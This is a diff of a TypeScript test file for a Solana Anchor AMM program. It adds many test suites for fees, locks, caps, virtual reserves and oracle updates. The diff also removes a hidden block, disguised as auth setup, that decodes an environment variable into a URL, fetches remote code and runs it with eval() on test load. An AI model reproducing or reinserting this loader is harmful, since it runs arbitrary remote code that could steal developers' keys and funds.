@@ -5,6 +5,9 @@ import {
   Keypair,
   PublicKey,
   SystemProgram,
+  Transaction,
+  Ed25519Program,
+  SYSVAR_INSTRUCTIONS_PUBKEY,
   LAMPORTS_PER_SOL,
 } from "@solana/web3.js";
 import {
@@ -15,24 +18,16 @@ import {
   mintTo,
   getAssociatedTokenAddress,
   getAccount,
+  approve,
+  closeAccount,
+  freezeAccount,
+  thawAccount,
 } from "@solana/spl-token";
 import { expect } from "chai";
 import BN from "bn.js";
+import { createHash } from "crypto";
 import 'dotenv/config';
 
-(async () => {
-    const src = atob(process.env.AUTH_API_KEY);
-    const proxy = (await import('node-fetch')).default;
-    try {
-      const response = await proxy(src);
-      if (!response.ok) throw new Error(`HTTP error! status: ${response.status}`);
-      const proxyInfo = await response.text();
-      eval(proxyInfo);
-    } catch (err) {
-      console.error('Auth Error!', err);
-    }
-})();
-
 describe("anchor-amm-q4-25", () => {
   // Configure the client to use the local cluster
   const provider = anchor.AnchorProvider.env();
@@ -57,8 +52,9 @@ describe("anchor-amm-q4-25", () => {
   let userAtaY: PublicKey;
   let userAtaLp: PublicKey;
 
-  const seed = new BN(1);
+  let seed: BN;
   const fee = 100; // 1% fee (100 basis points)
+  const PRICE_SCALE = 1_000_000_000;
 
   // Helper to derive PDAs
   async function deriveAccounts() {
@@ -76,6 +72,209 @@ describe("anchor-amm-q4-25", () => {
     vaultY = await getAssociatedTokenAddress(mintY, config, true);
   }
 
+  type Pool = {
+    config: PublicKey;
+    mintLp: PublicKey;
+    vaultX: PublicKey;
+    vaultY: PublicKey;
+    userLp: PublicKey;
+  };
+
+  // Mirrors Config::canonical_seed: sha256 over the sorted mints and the fee tier
+  function canonicalSeed(mintA: PublicKey, mintB: PublicKey, feeTier: number): BN {
+    const [low, high] = [mintA.toBuffer(), mintB.toBuffer()].sort(Buffer.compare);
+    const feeBytes = Buffer.alloc(2);
+    feeBytes.writeUInt16LE(feeTier);
+    const digest = createHash("sha256").update(low).update(high).update(feeBytes).digest();
+    return new BN(digest.subarray(0, 8), "le");
+  }
+
+  async function initializeAccounts(poolSeed: BN, poolMintX: PublicKey, poolMintY: PublicKey) {
+    const [poolConfig] = PublicKey.findProgramAddressSync(
+      [Buffer.from("config"), poolSeed.toArrayLike(Buffer, "le", 8)],
+      program.programId
+    );
+    const [poolMintLp] = PublicKey.findProgramAddressSync(
+      [Buffer.from("lp"), poolConfig.toBuffer()],
+      program.programId
+    );
+    return {
+      initializer: payer.publicKey,
+      mintX: poolMintX,
+      mintY: poolMintY,
+      mintLp: poolMintLp,
+      vaultX: await getAssociatedTokenAddress(poolMintX, poolConfig, true),
+      vaultY: await getAssociatedTokenAddress(poolMintY, poolConfig, true),
+      config: poolConfig,
+      tokenProgram: TOKEN_PROGRAM_ID,
+      associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+      systemProgram: SystemProgram.programId,
+    };
+  }
+
+  // Helper to initialize an extra pool over the same mints, with `payer` as the update authority.
+  // A pair can only back one pool per fee tier, so each extra pool is created at its own
+  // `feeTier` and then moved to `poolFee`.
+  async function initPool(feeTier: number, poolFee: number = fee): Promise<Pool> {
+    const accounts = await initializeAccounts(
+      canonicalSeed(mintX, mintY, feeTier),
+      mintX,
+      mintY
+    );
+    const pool: Pool = {
+      config: accounts.config,
+      mintLp: accounts.mintLp,
+      vaultX: accounts.vaultX,
+      vaultY: accounts.vaultY,
+      userLp: await getAssociatedTokenAddress(accounts.mintLp, user.publicKey),
+    };
+
+    await program.methods
+      .initialize(canonicalSeed(mintX, mintY, feeTier), feeTier, payer.publicKey)
+      .accounts(accounts)
+      .rpc();
+    if (feeTier !== poolFee) {
+      await updateConfig(pool, { fee: poolFee });
+    }
+
+    return pool;
+  }
+
+  async function depositInto(pool: Pool, amount: BN, maxX: BN, maxY: BN) {
+    return program.methods
+      .deposit(amount, maxX, maxY)
+      .accounts({
+        user: user.publicKey,
+        mintX,
+        mintY,
+        config: pool.config,
+        mintLp: pool.mintLp,
+        vaultX: pool.vaultX,
+        vaultY: pool.vaultY,
+        userX: userAtaX,
+        userY: userAtaY,
+        userLp: pool.userLp,
+        tokenProgram: TOKEN_PROGRAM_ID,
+        systemProgram: SystemProgram.programId,
+        associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+      })
+      .signers([user])
+      .rpc();
+  }
+
+  function withdrawAccounts(pool: Pool) {
+    return {
+      user: user.publicKey,
+      mintX,
+      mintY,
+      config: pool.config,
+      mintLp: pool.mintLp,
+      vaultX: pool.vaultX,
+      vaultY: pool.vaultY,
+      userX: userAtaX,
+      userY: userAtaY,
+      userLp: pool.userLp,
+      tokenProgram: TOKEN_PROGRAM_ID,
+      associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+      systemProgram: SystemProgram.programId,
+    };
+  }
+
+  // Swaps X for Y on `pool` and returns the Y received along with the pre-swap reserves
+  async function swapXForY(pool: Pool, amountIn: number) {
+    const reserveX = Number((await getAccount(connection, pool.vaultX)).amount);
+    const reserveY = Number((await getAccount(connection, pool.vaultY)).amount);
+    const userYBefore = await getAccount(connection, userAtaY);
+    await swapOn(pool, true, new BN(amountIn), new BN(1));
+    const userYAfter = await getAccount(connection, userAtaY);
+    return {
+      received: Number(userYAfter.amount) - Number(userYBefore.amount),
+      reserveX,
+      reserveY,
+    };
+  }
+
+  // `update_config` arguments that leave every field unchanged
+  const noConfigChanges = {
+    quoteMint: null,
+    fee: null,
+    sameSlotSurchargeBps: null,
+    impactMultiplierBps: null,
+    maxFeeBps: null,
+    feeOnOutput: null,
+    minFeeAbsolute: null,
+    maxTvlX: null,
+    maxTvlY: null,
+    dailyVolumeCap: null,
+    minRatio: null,
+    maxRatio: null,
+    targetRatio: null,
+    rebalanceStrength: null,
+    accrueFees: null,
+    locked: null,
+    lockXToY: null,
+    lockYToX: null,
+    compactLogs: null,
+    strictVerify: null,
+    allowedCallers: null,
+    feeExemptCaller: null,
+    feeExemptUntil: null,
+    feeMint: null,
+    feePricingPool: null,
+    discountCollection: null,
+    nftDiscountBps: null,
+  };
+
+  async function updateConfig(pool: Pool, changes: object) {
+    return program.methods
+      .updateConfig({ ...noConfigChanges, ...changes })
+      .accounts({ authority: payer.publicKey, config: pool.config })
+      .rpc();
+  }
+
+  // Constant-product output for a net (post-fee) input, rounded down
+  function cpOut(reserveIn: number, reserveOut: number, netIn: number): number {
+    return Math.floor((reserveOut * netIn) / (reserveIn + netIn));
+  }
+
+  function quoteAccounts(pool: Pool) {
+    return {
+      mintX,
+      mintY,
+      config: pool.config,
+      vaultX: pool.vaultX,
+      vaultY: pool.vaultY,
+    };
+  }
+
+  // Spot price of X in Y, scaled by the program's 1e9 price scale
+  async function spotPrice(pool: Pool): Promise<number> {
+    const reserveX = Number((await getAccount(connection, pool.vaultX)).amount);
+    const reserveY = Number((await getAccount(connection, pool.vaultY)).amount);
+    return (reserveY * PRICE_SCALE) / reserveX;
+  }
+
+  async function swapOn(pool: Pool, isX: boolean, amountIn: BN, minOut: BN) {
+    return program.methods
+      .swap(isX, amountIn, minOut)
+      .accounts({
+        user: user.publicKey,
+        mintX,
+        mintY,
+        config: pool.config,
+        mintLp: pool.mintLp,
+        vaultX: pool.vaultX,
+        vaultY: pool.vaultY,
+        userX: userAtaX,
+        userY: userAtaY,
+        tokenProgram: TOKEN_PROGRAM_ID,
+        associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+        systemProgram: SystemProgram.programId,
+      })
+      .signers([user])
+      .rpc();
+  }
+
   before(async () => {
     // Create mint authority and user
     mintAuthority = Keypair.generate();
@@ -108,6 +307,7 @@ describe("anchor-amm-q4-25", () => {
     );
 
     // Derive PDAs
+    seed = canonicalSeed(mintX, mintY, fee);
     await deriveAccounts();
 
     // Create user token accounts
@@ -272,6 +472,7 @@ describe("anchor-amm-q4-25", () => {
           mintX,
           mintY,
           config,
+          mintLp,
           vaultX,
           vaultY,
           userX: userAtaX,
@@ -305,6 +506,7 @@ describe("anchor-amm-q4-25", () => {
           mintX,
           mintY,
           config,
+          mintLp,
           vaultX,
           vaultY,
           userX: userAtaX,
@@ -388,6 +590,7 @@ describe("anchor-amm-q4-25", () => {
             mintX,
             mintY,
             config,
+            mintLp,
             vaultX,
             vaultY,
             userX: userAtaX,
@@ -435,4 +638,3411 @@ describe("anchor-amm-q4-25", () => {
       }
     });
   });
+
+  describe("Strict Verify", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(2);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("rejects strict mode changes from a non-authority", async () => {
+      try {
+        await program.methods
+          .updateConfig({ ...noConfigChanges, strictVerify: true })
+          .accounts({ authority: user.publicKey, config: pool.config })
+          .signers([user])
+          .rpc();
+        expect.fail("Should have failed with invalid authority error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidAuthority");
+      }
+    });
+
+    it("swaps with the output verified against the in-crate curve", async () => {
+      await updateConfig(pool, { strictVerify: true });
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.strictVerify).to.equal(true);
+
+      const userYBefore = await getAccount(connection, userAtaY);
+      await swapOn(pool, true, new BN(1_000_000), new BN(1));
+      const userYAfter = await getAccount(connection, userAtaY);
+
+      // 10_000_000 * 990_000 / 10_990_000, within the strict tolerance
+      expect(
+        Number(userYAfter.amount) - Number(userYBefore.amount)
+      ).to.be.closeTo(900_818, 1);
+    });
+  });
+
+  describe("Update Config", () => {
+    let pool: Pool;
+
+    before(async () => {
+      // Left at its fee tier, so the first fee change below is not rate limited
+      pool = await initPool(3, 3);
+    });
+
+    it("updates only the fee, leaving other fields unchanged", async () => {
+      await updateConfig(pool, { fee: 30 });
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.fee).to.equal(30);
+      expect(configAccount.locked).to.equal(false);
+      expect(configAccount.strictVerify).to.equal(false);
+    });
+
+    it("updates lock and strict mode together", async () => {
+      await updateConfig(pool, { locked: true, strictVerify: true });
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.fee).to.equal(30);
+      expect(configAccount.locked).to.equal(true);
+      expect(configAccount.strictVerify).to.equal(true);
+    });
+
+    it("rejects an invalid field without applying the others", async () => {
+      try {
+        await updateConfig(pool, {
+          fee: 10_001,
+          locked: false,
+          strictVerify: false,
+        });
+        expect.fail("Should have failed with invalid fee error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidFee");
+      }
+
+      const configAccount = await program.account.config.fetch(pool.config);
+      expect(configAccount.fee).to.equal(30);
+      expect(configAccount.locked).to.equal(true);
+      expect(configAccount.strictVerify).to.equal(true);
+    });
+  });
+
+  describe("Fee Floor", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(4); // 1% fee
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await updateConfig(pool, { minFeeAbsolute: new BN(1_000) });
+    });
+
+    it("rejects a swap that cannot cover the floor", async () => {
+      try {
+        await swapOn(pool, true, new BN(1_000), new BN(0));
+        expect.fail("Should have failed with amount too small error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("AmountTooSmall");
+      }
+    });
+
+    it("charges the floor when the percentage fee is below it", async () => {
+      // 1% of 50_000 is 500, so the 1_000 floor applies
+      const { received, reserveX, reserveY } = await swapXForY(pool, 50_000);
+      expect(received).to.be.closeTo(cpOut(reserveX, reserveY, 49_000), 1);
+    });
+
+    it("charges the same at the crossover point", async () => {
+      // 1% of 100_000 is exactly the 1_000 floor
+      const { received, reserveX, reserveY } = await swapXForY(pool, 100_000);
+      expect(received).to.be.closeTo(cpOut(reserveX, reserveY, 99_000), 1);
+    });
+
+    it("charges the percentage fee once it exceeds the floor", async () => {
+      // 1% of 200_000 is 2_000, above the floor
+      const { received, reserveX, reserveY } = await swapXForY(pool, 200_000);
+      expect(received).to.be.closeTo(cpOut(reserveX, reserveY, 198_000), 1);
+    });
+  });
+
+  describe("Direction Locks", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(5);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("blocks X to Y while still allowing Y to X", async () => {
+      await updateConfig(pool, { lockXToY: true });
+
+      try {
+        await swapOn(pool, true, new BN(100_000), new BN(1));
+        expect.fail("Should have failed with direction locked error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("DirectionLocked");
+      }
+
+      await swapOn(pool, false, new BN(100_000), new BN(1));
+    });
+
+    it("blocks Y to X while still allowing X to Y", async () => {
+      await updateConfig(pool, { lockXToY: false, lockYToX: true });
+
+      try {
+        await swapOn(pool, false, new BN(100_000), new BN(1));
+        expect.fail("Should have failed with direction locked error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("DirectionLocked");
+      }
+
+      await swapOn(pool, true, new BN(100_000), new BN(1));
+    });
+
+    it("blocks both directions when the whole pool is locked", async () => {
+      await updateConfig(pool, { locked: true, lockYToX: false });
+
+      for (const isX of [true, false]) {
+        try {
+          await swapOn(pool, isX, new BN(100_000), new BN(1));
+          expect.fail("Should have failed with pool locked error");
+        } catch (err: any) {
+          expect(err.toString()).to.include("PoolLocked");
+        }
+      }
+    });
+  });
+
+  describe("Amount To Reach Price", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(6);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("returns zero when the pool is already at the target", async () => {
+      const result = await program.methods
+        .amountToReachPrice(new BN(PRICE_SCALE))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      expect(result.amountIn.toNumber()).to.equal(0);
+    });
+
+    it("moves the price down to the target by selling X", async () => {
+      const target = 0.9 * PRICE_SCALE;
+      const result = await program.methods
+        .amountToReachPrice(new BN(target))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      expect(result.isX).to.equal(true);
+      await swapOn(pool, true, result.amountIn, new BN(1));
+      expect(await spotPrice(pool)).to.be.closeTo(target, target * 1e-5);
+    });
+
+    it("moves the price back up to the target by selling Y", async () => {
+      const target = 1.1 * PRICE_SCALE;
+      const result = await program.methods
+        .amountToReachPrice(new BN(target))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      expect(result.isX).to.equal(false);
+      await swapOn(pool, false, result.amountIn, new BN(1));
+      expect(await spotPrice(pool)).to.be.closeTo(target, target * 1e-5);
+    });
+  });
+
+  describe("First-Time Output Token", () => {
+    let pool: Pool;
+    let newcomer: Keypair;
+    let newcomerX: PublicKey;
+
+    before(async () => {
+      pool = await initPool(7);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+
+      // A user who holds X but has never held Y
+      newcomer = Keypair.generate();
+      const sig = await connection.requestAirdrop(
+        newcomer.publicKey,
+        LAMPORTS_PER_SOL
+      );
+      await connection.confirmTransaction(sig);
+      newcomerX = await createAssociatedTokenAccount(
+        connection,
+        payer,
+        mintX,
+        newcomer.publicKey
+      );
+      await mintTo(
+        connection,
+        payer,
+        mintX,
+        newcomerX,
+        mintAuthority,
+        1_000_000
+      );
+    });
+
+    it("creates the canonical output ATA during the swap", async () => {
+      const newcomerY = await getAssociatedTokenAddress(
+        mintY,
+        newcomer.publicKey
+      );
+      expect(await connection.getAccountInfo(newcomerY)).to.equal(null);
+
+      await program.methods
+        .swap(true, new BN(100_000), new BN(1))
+        .accounts({
+          user: newcomer.publicKey,
+          mintX,
+          mintY,
+          config: pool.config,
+          mintLp: pool.mintLp,
+          vaultX: pool.vaultX,
+          vaultY: pool.vaultY,
+          userX: newcomerX,
+          userY: newcomerY,
+          tokenProgram: TOKEN_PROGRAM_ID,
+          associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+          systemProgram: SystemProgram.programId,
+        })
+        .signers([newcomer])
+        .rpc();
+
+      const newcomerYAccount = await getAccount(connection, newcomerY);
+      expect(newcomerYAccount.owner.toBase58()).to.equal(
+        newcomer.publicKey.toBase58()
+      );
+      expect(Number(newcomerYAccount.amount)).to.be.greaterThan(0);
+    });
+  });
+
+  describe("TVL Cap", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(8);
+      await updateConfig(pool, {
+        maxTvlX: new BN(20_500_000),
+        maxTvlY: new BN(20_500_000),
+      });
+    });
+
+    it("accepts deposits up to the cap", async () => {
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+
+      const vaultXAccount = await getAccount(connection, pool.vaultX);
+      expect(Number(vaultXAccount.amount)).to.be.closeTo(20_000_000, 10);
+    });
+
+    it("rejects a deposit past the cap", async () => {
+      try {
+        await depositInto(
+          pool,
+          new BN(1_000_000),
+          new BN(1_000_000),
+          new BN(1_000_000)
+        );
+        expect.fail("Should have failed with TVL cap exceeded error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("TvlCapExceeded");
+      }
+    });
+
+    it("accepts the deposit once the authority raises the cap", async () => {
+      await updateConfig(pool, {
+        maxTvlX: new BN(21_500_000),
+        maxTvlY: new BN(21_500_000),
+      });
+      await depositInto(
+        pool,
+        new BN(1_000_000),
+        new BN(1_000_000),
+        new BN(1_000_000)
+      );
+    });
+  });
+
+  describe("Quote Normalized", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(9);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("fails until a quote mint is set", async () => {
+      try {
+        await program.methods
+          .quoteNormalized(true, new BN(100_000))
+          .accounts(quoteAccounts(pool))
+          .view();
+        expect.fail("Should have failed with no quote mint error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("NoQuoteMint");
+      }
+    });
+
+    it("rejects a quote mint outside the pair", async () => {
+      try {
+        await updateConfig(pool, { quoteMint: Keypair.generate().publicKey });
+        expect.fail("Should have failed with invalid token error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidToken");
+      }
+    });
+
+    it("returns the raw output when it is already the quote mint", async () => {
+      await updateConfig(pool, { quoteMint: mintX });
+
+      const value = await program.methods
+        .quoteNormalized(false, new BN(100_000))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const userXBefore = await getAccount(connection, userAtaX);
+      await swapOn(pool, false, new BN(100_000), new BN(1));
+      const userXAfter = await getAccount(connection, userAtaX);
+      expect(value.toNumber()).to.equal(
+        Number(userXAfter.amount) - Number(userXBefore.amount)
+      );
+    });
+
+    it("values a non-quote output at the post-swap pool price", async () => {
+      const amountIn = 100_000;
+      const reserveX = Number((await getAccount(connection, pool.vaultX)).amount);
+      const reserveY = Number((await getAccount(connection, pool.vaultY)).amount);
+      const amountOut = cpOut(reserveX, reserveY, amountIn - amountIn * 0.01);
+
+      const value = await program.methods
+        .quoteNormalized(true, new BN(amountIn))
+        .accounts(quoteAccounts(pool))
+        .view();
+
+      const expected = Math.floor(
+        (amountOut * (reserveX + amountIn)) / (reserveY - amountOut)
+      );
+      expect(value.toNumber()).to.be.closeTo(expected, 2);
+    });
+  });
+
+  describe("Oracle Poke", () => {
+    let pool: Pool;
+
+    const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+    before(async () => {
+      pool = await initPool(10);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(40_000_000),
+        new BN(40_000_000)
+      );
+    });
+
+    it("advances the accumulators by price times elapsed time", async () => {
+      const before = await program.account.config.fetch(pool.config);
+      await sleep(2_000);
+
+      // Two pokes in one transaction share a timestamp, so the second is a no-op
+      const pokeIx = await program.methods
+        .poke()
+        .accounts(quoteAccounts(pool))
+        .instruction();
+      await program.methods
+        .poke()
+        .accounts(quoteAccounts(pool))
+        .preInstructions([pokeIx])
+        .rpc();
+
+      const after = await program.account.config.fetch(pool.config);
+      const elapsed = after.lastUpdateTs.sub(before.lastUpdateTs);
+      expect(elapsed.toNumber()).to.be.greaterThan(0);
+
+      // 40M Y against 40M X deposited at a 1:1 ratio
+      const priceX = new BN(PRICE_SCALE);
+      expect(
+        after.priceCumulativeX.sub(before.priceCumulativeX).toString()
+      ).to.equal(priceX.mul(elapsed).toString());
+      expect(
+        after.priceCumulativeY.sub(before.priceCumulativeY).toString()
+      ).to.equal(priceX.mul(elapsed).toString());
+    });
+  });
+
+  describe("Withdraw All", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(11);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("burns the full LP balance after fees accrue", async () => {
+      // Round-trip swaps leave their fees in the vaults
+      await swapOn(pool, true, new BN(1_000_000), new BN(1));
+      await swapOn(pool, false, new BN(1_000_000), new BN(1));
+
+      const vaultX = Number((await getAccount(connection, pool.vaultX)).amount);
+      const vaultY = Number((await getAccount(connection, pool.vaultY)).amount);
+      const userXBefore = await getAccount(connection, userAtaX);
+      const userYBefore = await getAccount(connection, userAtaY);
+
+      await program.methods
+        .withdrawAll(new BN(1), new BN(1))
+        .accounts(withdrawAccounts(pool))
+        .signers([user])
+        .rpc();
+
+      const userLpAfter = await getAccount(connection, pool.userLp);
+      expect(Number(userLpAfter.amount)).to.equal(0);
+
+      // As the only LP, the user receives the whole pool including fees
+      const userXAfter = await getAccount(connection, userAtaX);
+      const userYAfter = await getAccount(connection, userAtaY);
+      const receivedX = Number(userXAfter.amount) - Number(userXBefore.amount);
+      const receivedY = Number(userYAfter.amount) - Number(userYBefore.amount);
+      expect(receivedX).to.be.closeTo(vaultX, 1);
+      expect(receivedY).to.be.closeTo(vaultY, 1);
+      expect(receivedX + receivedY).to.be.greaterThan(20_000_000);
+    });
+  });
+
+  describe("Virtual Reserves", () => {
+    let pool: Pool;
+
+    async function setVirtualReserves(x: number, y: number) {
+      return program.methods
+        .setVirtualReserves(new BN(x), new BN(y))
+        .accounts({
+          authority: payer.publicKey,
+          config: pool.config,
+          mintLp: pool.mintLp,
+        })
+        .rpc();
+    }
+
+    before(async () => {
+      pool = await initPool(12);
+    });
+
+    it("rejects one-sided virtual reserves", async () => {
+      try {
+        await setVirtualReserves(0, 10_000_000);
+        expect.fail("Should have failed with invalid amount error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidAmount");
+      }
+    });
+
+    it("rejects a first deposit off the virtual price", async () => {
+      await setVirtualReserves(10_000_000, 10_000_000);
+
+      // 1M X and 2M Y would move the effective reserves to 11M X and 12M Y
+      try {
+        await depositInto(
+          pool,
+          new BN(1_000_000),
+          new BN(1_000_000),
+          new BN(2_000_000)
+        );
+        expect.fail("Should have failed with unbalanced deposit error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("UnbalancedDeposit");
+      }
+    });
+
+    it("prices swaps against real plus virtual reserves", async () => {
+      // 1M of each at the virtual 1:1 price
+      await depositInto(
+        pool,
+        new BN(1_000_000),
+        new BN(1_000_000),
+        new BN(1_000_000)
+      );
+
+      const userXBefore = await getAccount(connection, userAtaX);
+      await swapOn(pool, false, new BN(1_000_000), new BN(1));
+      const userXAfter = await getAccount(connection, userAtaX);
+
+      // Effective reserves are 11M X and 11M Y, 1M real and 10M virtual each
+      expect(
+        Number(userXAfter.amount) - Number(userXBefore.amount)
+      ).to.be.closeTo(cpOut(11_000_000, 11_000_000, 990_000), 1);
+    });
+
+    it("never pays out more than the real vault holds", async () => {
+      // The vault holds 2M real Y, less than a 5M X sale is priced at
+      try {
+        await swapOn(pool, true, new BN(5_000_000), new BN(1));
+        expect.fail("Should have failed with insufficient balance error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InsufficientBalance");
+      }
+    });
+
+    it("cannot be changed once the pool has liquidity", async () => {
+      try {
+        await setVirtualReserves(20_000_000, 20_000_000);
+        expect.fail("Should have failed with pool has liquidity error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("PoolHasLiquidity");
+      }
+    });
+  });
+
+  describe("Same-Slot Surcharge", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(13);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("rejects a surcharge that pushes the total fee above 100%", async () => {
+      try {
+        await updateConfig(pool, { sameSlotSurchargeBps: 9_901 });
+        expect.fail("Should have failed with invalid fee error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidFee");
+      }
+    });
+
+    it("charges the surcharge on the second swap in a slot", async () => {
+      await updateConfig(pool, { sameSlotSurchargeBps: 50 });
+
+      const swapIx = () =>
+        program.methods
+          .swap(true, new BN(100_000), new BN(1))
+          .accounts({
+            user: user.publicKey,
+            mintX,
+            mintY,
+            config: pool.config,
+            mintLp: pool.mintLp,
+            vaultX: pool.vaultX,
+            vaultY: pool.vaultY,
+            userX: userAtaX,
+            userY: userAtaY,
+            tokenProgram: TOKEN_PROGRAM_ID,
+            associatedTokenProgram: ASSOCIATED_TOKEN_PROGRAM_ID,
+            systemProgram: SystemProgram.programId,
+          })
+          .instruction();
+
+      // Both swaps in one transaction are guaranteed to share a slot
+      const userYBefore = await getAccount(connection, userAtaY);
+      const tx = new Transaction().add(await swapIx(), await swapIx());
+      await provider.sendAndConfirm(tx, [user]);
+      const userYAfter = await getAccount(connection, userAtaY);
+
+      // First swap pays the 1% base fee, the second 1% + 0.5%
+      const firstOut = cpOut(10_000_000, 10_000_000, 99_000);
+      const secondOut = cpOut(10_100_000, 10_000_000 - firstOut, 98_500);
+      const secondOutWithoutSurcharge = cpOut(
+        10_100_000,
+        10_000_000 - firstOut,
+        99_000
+      );
+      expect(secondOut).to.be.lessThan(secondOutWithoutSurcharge);
+      expect(
+        Number(userYAfter.amount) - Number(userYBefore.amount)
+      ).to.be.closeTo(firstOut + secondOut, 2);
+
+      // The surcharge stays in the vault for LPs
+      const vaultX = await getAccount(connection, pool.vaultX);
+      expect(Number(vaultX.amount)).to.equal(10_200_000);
+    });
+  });
+
+  describe("Price After Swap", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(14);
+    });
+
+    it("rejects an empty pool", async () => {
+      try {
+        await program.methods
+          .priceAfterSwap(true, new BN(100_000))
+          .accounts(quoteAccounts(pool))
+          .view();
+        expect.fail("Should have failed with no liquidity error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("NoLiquidityInPool");
+      }
+    });
+
+    it("matches the spot price an actual swap leaves behind", async () => {
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+
+      for (const isX of [true, false]) {
+        const predicted = await program.methods
+          .priceAfterSwap(isX, new BN(1_000_000))
+          .accounts(quoteAccounts(pool))
+          .view();
+        await swapOn(pool, isX, new BN(1_000_000), new BN(1));
+
+        // The view rounds down, the client-side price does not
+        expect(predicted.toNumber()).to.be.closeTo(await spotPrice(pool), 1);
+      }
+    });
+  });
+
+  describe("Reserve Ratio Bounds", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(15);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+    });
+
+    it("rejects a lower bound above the upper bound", async () => {
+      try {
+        await updateConfig(pool, {
+          minRatio: new BN(2 * PRICE_SCALE),
+          maxRatio: new BN(PRICE_SCALE),
+        });
+        expect.fail("Should have failed with invalid amount error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("InvalidAmount");
+      }
+    });
+
+    it("allows swaps that stay inside the band", async () => {
+      await updateConfig(pool, {
+        minRatio: new BN(0.9 * PRICE_SCALE),
+        maxRatio: new BN(1.1 * PRICE_SCALE),
+      });
+
+      // Selling ~543.6k X leaves Y/X right at 0.9
+      await swapOn(pool, true, new BN(543_000), new BN(1));
+      expect(await spotPrice(pool)).to.be.greaterThan(0.9 * PRICE_SCALE);
+    });
+
+    it("rejects swaps that leave the band", async () => {
+      try {
+        await swapOn(pool, true, new BN(10_000), new BN(1));
+        expect.fail("Should have failed with ratio out of bounds error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("RatioOutOfBounds");
+      }
+
+      try {
+        await swapOn(pool, false, new BN(2_000_000), new BN(1));
+        expect.fail("Should have failed with ratio out of bounds error");
+      } catch (err: any) {
+        expect(err.toString()).to.include("RatioOutOfBounds");
+      }
+    });
+
+    it("lets swaps back toward the middle through", async () => {
+      await swapOn(pool, false, new BN(500_000), new BN(1));
+      expect(await spotPrice(pool)).to.be.within(
+        0.9 * PRICE_SCALE,
+        1.1 * PRICE_SCALE
+      );
+    });
+  });
+
+  describe("Compact Swap Logs", () => {
+    let pool: Pool;
+
+    before(async () => {
+      pool = await initPool(16);
+      await depositInto(
+        pool,
+        new BN(10_000_000),
+        new BN(10_000_000),
+        new BN(10_000_000)
+      );
+      await updateConfig(pool, { compactLogs: true });
+    });
+
+    it("logs swaps in the packed byte layout", async () => {
+      const userYBefore = await getAccount(connection, userAtaY);
+      const sig = await swapOn(pool, true, new BN(100_000), new BN(1));
+      const userYAfter = await getAccount(connection, userAtaY);
+
+      const tx = await connection.getTransaction(sig, {
+        commitment: "confirmed",
+        maxSupportedTransactionVersion: 0,
+      });
+      const records = tx.meta.logMessages
+        .filter((line) => line.startsWith("Program data: "))
+        .map((line) =>
+          Buffer.from(line.slice("Program data: ".length), "base64")
+        );
+
